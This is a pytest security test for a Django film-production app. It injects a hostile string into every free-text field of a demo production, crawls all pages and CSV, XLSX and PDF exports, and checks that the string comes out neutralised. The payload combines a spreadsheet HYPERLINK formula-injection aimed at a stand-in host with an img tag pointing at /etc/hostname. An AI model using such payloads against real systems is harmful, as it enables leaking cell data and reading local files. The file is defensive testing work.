"""Every export of the demo, with a hostile production: text that a spreadsheet would
evaluate or a PDF renderer would interpret is injected into every free-text field, then
every page and file reachable from the dashboard is fetched. No page fails, no CSV/XLSX
cell is a live formula of the user's, no PDF embeds an image or drops the markup."""

from __future__ import annotations

import csv
import io
import re
from collections import deque
from typing import Any

import pdfplumber
import pytest
from django.db import models
from django.test import Client
from openpyxl import load_workbook

from tournage.common.exports import neutralise
from tournage.web.productions.archive import archived_models, sections
from tournage.web.productions.demo import load_demo
from tournage.web.productions.models import Membership, Production, Role

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://exemple.invalid/?q="&A1;"x") <img src="/etc/hostname"/> <b>< & '
# Fields whose value is a code the product looks up (an account, a profile, a key),
# not free text: injecting there tests the lookup, not the escaping.
CODES = re.compile(
    r"(^|_)(code|key|ref|account|path|sha256|task_id|profile|channel|unit|currency|country|"
    r"format|status|verdict|kind|category|colour|color|email|phone|postcode|number|int_ext|"
    r"time|variant|version|check_id|source_name|factor|scope|role|region|agreement|idcc|"
    r"scene|rate|frame_rate|function|functions|tracks|language|revision|rule|rules|section|lever|mode|type|"
    r"convention|position|job|grade|level|day_type|period|vehicle|fuel|energy|country_code)($|_)"
)
SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SKIPPED_LINKS = re.compile(r"/(logout|delete|remove|i18n)/|\?|#")


def _unique(model: type[models.Model]) -> set[str]:
    names = {name for group in model._meta.unique_together for name in group}
    for constraint in model._meta.constraints:
        names.update(getattr(constraint, "fields", ()))
    return names


def _free_text(model: type[models.Model]) -> list[models.Field[Any, Any]]:
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, models.SlugField | models.EmailField)
        and not field.choices
        and not field.unique
        and field.name not in _unique(model)
        and not CODES.search(field.name)
    ]


def _inject(production: Production) -> int:
    changed = 0
    for model in [Production, *archived_models()]:
        fields = _free_text(model)
        if not fields:
            continue
        rows = (
            [production]
            if model is Production
            else list(
                next(s for s in sections() if model in s.models()).queryset(model, production)
            )
        )
        for row in rows:
            for field in fields:
                value = getattr(row, field.name)
                if value:
                    setattr(row, field.name, (PAYLOAD + value)[: field.max_length or None])
                    changed += 1
        if rows:
            model._default_manager.bulk_update(rows, [f.name for f in fields])
    return changed


def _links(html: str, prefix: str) -> set[str]:
    return {
        link
        for link in re.findall(r'href="([^"]+)"', html)
        if link.startswith(prefix) and not SKIPPED_LINKS.search(link)
    }


def _body(response: Any) -> bytes:
    """The bytes of a response, streamed (a stored file) or not."""
    if not response.streaming:
        return bytes(response.content)
    # not response.close(): it would signal the request's end and close the test database
    return b"".join(response.streaming_content)


def _unsafe_cells(response: Any, body: bytes) -> list[str]:
    content_type = response["Content-Type"]
    if content_type.startswith("text/csv"):
        text = body.decode("utf-8-sig")
        delimiter = ";" if ";" in text.partition("\n")[0] else ","
        rows = csv.reader(io.StringIO(text), delimiter=delimiter)
        return [cell for row in rows for cell in row if neutralise(cell) != cell]
    if content_type.startswith(SPREADSHEET):
        book = load_workbook(io.BytesIO(body))
        return [
            f"{sheet.title}!{cell.coordinate}={cell.value}"
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if (cell.data_type == "f" and "HYPERLINK" in str(cell.value))
            or (cell.data_type == "s" and neutralise(cell.value) != cell.value)
        ]
    return []


@pytest.mark.slow
def test_every_export_of_an_injected_demo_is_neutral() -> None:
    production, _ = load_demo()
    assert _inject(production) > 100
    client = Client()
    user = Membership.objects.filter(production=production, role=Role.PRODUCER).first().user
    client.force_login(user)
    prefix = f"/p/{production.pk}/"
    queue, seen = deque([prefix]), {prefix}
    failures, unsafe, pdfs, sheets = [], [], [], []
    while queue and len(seen) < 600:
        url = queue.popleft()
        response = client.get(url)
        if response.status_code >= 500:
            failures.append(url)
            continue
        content_type, body = response.get("Content-Type", ""), _body(response)
        if content_type.startswith("text/html"):
            for link in _links(body.decode(), prefix) - seen:
                seen.add(link)
                queue.append(link)
        elif content_type.startswith("application/pdf"):
            pdfs.append((url, body))
        elif content_type.startswith(("text/csv", SPREADSHEET)):
            sheets.append(url)
            unsafe += [f"{url}: {cell}" for cell in _unsafe_cells(response, body)]
    assert failures == []
    assert len(sheets) >= 5, sheets  # elements, day-out-of-days, stripboard, devis, carbon
    assert unsafe == []
    assert pdfs, "the demo has PDF exports"
    assert [url for url, pdf in pdfs if b"/Subtype /Image" in pdf] == []
    shown = [url for url, pdf in pdfs if "<img" in _pdf_text(pdf)]
    assert shown, "injected markup is shown as text in the PDFs"


def _pdf_text(pdf: bytes) -> str:
    with pdfplumber.open(io.BytesIO(pdf)) as document:
        return "".join(page.extract_text() or "" for page in document.pages)
